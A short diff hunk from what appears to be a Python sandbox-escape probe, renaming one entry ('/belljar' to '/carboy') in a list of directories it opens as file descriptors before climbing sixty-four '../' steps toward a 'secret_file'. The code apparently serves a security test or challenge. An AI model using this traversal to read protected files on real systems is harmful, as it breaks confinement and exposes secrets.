@@ -15,7 +15,7 @@ up = "../" * 64
 down = context["secret_file"].lstrip("/")
 kinds = (os.O_DIRECTORY, os.O_PATH, os.O_PATH | os.O_DIRECTORY)
 found = []
-for place in [".", "..", "/", "/dev", "/tmp", "/usr", "/etc", "/belljar", *sys.path]:
+for place in [".", "..", "/", "/dev", "/tmp", "/usr", "/etc", "/carboy", *sys.path]:
     for kind in kinds:
         try:
             start = os.open(place, os.O_RDONLY | kind)
